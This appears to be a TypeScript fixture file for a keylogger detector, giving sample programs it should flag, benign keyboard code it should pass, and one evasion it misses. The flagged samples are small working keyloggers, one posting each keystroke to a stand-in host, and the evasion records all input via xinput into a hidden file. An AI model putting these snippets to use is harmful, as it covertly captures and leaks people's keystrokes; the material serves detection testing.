import type { Examples } from "@doorward/core";

const manifest =
  '{ "name": "shop", "version": "1.0.0", "main": "server.js", "scripts": { "start": "node server.js" } }\n';

/** Watchers of the whole keyboard, and programs that read their own input. */
export const examples: Examples = {
  hits: [
    {
      name: "a Python program that writes down every key",
      files: {
        "main.py": `from pynput import keyboard
def note(key):
    open("/tmp/.k", "a").write(str(key))
with keyboard.Listener(on_press=note) as listener:
    listener.join()
`,
      },
    },
    {
      name: "a Node.js program",
      files: {
        "package.json": manifest,
        "server.js": `const { uIOhook } = require("uiohook-napi");
uIOhook.on("keydown", (event) => fetch("https://notes.example/", { method: "POST", body: String(event.keycode) }));
uIOhook.start();
`,
      },
    },
    {
      name: "a Python program with another package",
      files: {
        "main.py": `import keyboard
keyboard.hook(lambda event: print(event.name))
`,
      },
    },
  ],
  misses: [
    {
      name: "a command that reads its own input",
      why: "Keys typed into its own window are its business.",
      files: {
        "package.json": manifest,
        "server.js": `process.stdin.setRawMode(true);
process.stdin.on("data", (key) => console.log(key));
`,
      },
    },
    {
      name: "a page that reacts to keys",
      why: "A page sees only what is typed into it.",
      files: {
        "package.json": manifest,
        "server.js": 'document.addEventListener("keydown", (event) => console.log(event.key));\n',
      },
    },
    {
      name: "a program that types for the person",
      why: "It presses keys and hears none.",
      files: {
        "main.py": `import pyautogui
pyautogui.typewrite('hello')
`,
      },
    },
  ],
  evasions: [
    {
      name: "a recorder of the display server",
      caughtBy: "nothing",
      files: { "watch.sh": "xinput test-xi2 --root > /tmp/.k\n" },
    },
  ],
};
